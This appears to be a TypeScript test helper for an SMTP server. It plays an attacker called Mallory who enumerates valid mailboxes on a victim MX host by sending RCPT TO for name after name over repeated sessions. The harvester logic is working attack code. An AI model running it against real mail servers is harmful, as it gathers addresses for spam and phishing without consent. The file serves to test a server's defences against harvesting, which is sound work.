/** Mallory harvests: she asks for name after name at the MX host, to learn which mailboxes there are. She never sends anything. */
import { isPositive, replyText } from '#protocol/smtp/reply';
import { connectFrom, REPLY_MS, type Victim } from './victim.ts';

export interface HarvestReport {
  readonly asked: number;
  /** Mailboxes that are there. */
  readonly found: readonly string[];
  /** What was said last; '' where nobody answered. */
  readonly reply: string;
}

const MOST_SESSIONS = 6;

/** Over session after session, where the server ends one. Never rejects for what the server does. */
export async function harvest(
  victim: Victim,
  localAddress: string,
  names: readonly string[],
): Promise<HarvestReport> {
  const found: string[] = [];
  let asked = 0;
  let reply = '';
  for (let session = 0; session < MOST_SESSIONS && asked < names.length; session++) {
    const connection = await connectFrom(victim, localAddress);
    if (connection === undefined) break;
    try {
      const greeting = await connection.read(REPLY_MS);
      if (greeting.kind !== 'reply' || !isPositive(greeting.reply)) break;
      await connection.ask('EHLO relay.mallory.test', REPLY_MS);
      await connection.ask('MAIL FROM:<census@mallory.test>', REPLY_MS);
      while (asked < names.length) {
        const name = names[asked]!;
        const answer = await connection.ask(`RCPT TO:<${name}@${victim.domain}>`, REPLY_MS);
        if (answer.kind !== 'reply') break;
        asked++;
        reply = replyText(answer.reply);
        if (isPositive(answer.reply)) found.push(name);
        if (answer.reply.code === 421) break;
      }
    } finally {
      connection.finish();
    }
  }
  return { asked, found, reply };
}
